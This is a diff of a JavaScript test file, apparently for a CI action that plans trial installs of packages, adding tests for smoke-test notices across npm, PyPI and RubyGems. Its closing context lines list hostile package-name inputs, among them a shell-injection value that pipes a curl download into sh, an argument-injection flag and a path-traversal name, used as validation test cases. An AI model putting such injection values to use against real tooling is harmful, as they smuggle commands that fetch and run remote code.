@@ -144,6 +144,23 @@ describe('an ecosystem without a row', () => {
 })
 
 test.each([
+  ['npm', '@octo/demo', `node --input-type=module --eval 'await import("@octo/demo")'`],
+  ['pypi', 'Demo.Pkg', "python -c 'import demo_pkg'"],
+  ['rubygems', 'demo-pkg', `ruby -e 'require "demo/pkg"'`],
+])('P6: %s without a smoke test says that nothing was run, and what could be', async (ecosystem, name, command) => {
+  const inputs = { ecosystem, 'package-name': name, for: 'try' }
+  const bare = await plan(inputs)
+  expect(bare.annotations).toMatchObject([{ level: 'notice', message: expect.stringContaining(command) }])
+  const tested = await plan({ ...inputs, 'smoke-test': 'true' })
+  expect(tested.annotations).toEqual([])
+})
+
+test('a crate was compiled by its trial', async () => {
+  const { annotations } = await plan({ ecosystem: 'crates', for: 'try' })
+  expect(annotations).toEqual([])
+})
+
+test.each([
   ["demo'; curl x | sh; '", '1.0.0', 'package-name'],
   ['-rrequirements.txt', '1.0.0', 'package-name'],
   ['../demo', '1.0.0', 'package-name'],
